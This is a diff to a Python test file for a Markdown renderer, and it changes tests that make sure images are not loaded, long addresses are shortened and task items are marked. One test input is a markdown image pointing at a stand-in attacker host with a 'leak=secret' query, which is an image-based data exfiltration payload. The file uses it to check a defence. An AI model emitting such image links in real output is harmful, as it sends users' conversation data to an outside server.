@@ -210,10 +210,15 @@ def test_no_mixture_of_these_letters_can_act(text: str) -> None:
     assert_harmless(str(render(text)))
 
 
-def test_an_image_would_tell_its_server_what_was_said_and_so_there_are_none() -> None:
+def test_an_image_would_tell_its_server_what_was_said_and_so_only_its_words_are_there() -> None:
     html = render("See ![the *map* <b>](https://evil.example/?leak=secret)")
-    assert "evil.example" not in html
-    assert "See the *map* &lt;b&gt;" in html
+    shown = "Picture not loaded: the *map* &lt;b&gt; <code>https://evil.example/?leak=secret</code>"
+    assert html == f'<p>See <span class="not-loaded">{shown}</span></p>\n'
+
+
+def test_of_an_image_without_a_name_or_with_a_long_address_that_much_is_said() -> None:
+    assert "Picture not loaded: <code>https://a.example/b.png</code>" in render("![](https://a.example/b.png)")
+    assert len(render(f"![x](https://a.example/{'b' * 5000})")) < 400
 
 
 def test_a_link_says_where_it_leads_and_gives_nothing_away() -> None:
@@ -291,7 +296,7 @@ def test_the_cells_of_a_table_are_aligned_as_its_head_says() -> None:
 
 def test_a_task_list_shows_what_is_done() -> None:
     html = squeezed(render("- [ ] buy\n- [x] cook\n- [link](https://a.example)"))
-    assert html.startswith("<ul><li>☐ buy</li><li>☑ cook</li><li><a ")
+    assert html.startswith('<ul><li class="task">☐ buy</li><li class="task">☑ cook</li><li><a ')
 
 
 def test_a_link_opens_in_a_tab_of_its_own() -> None:
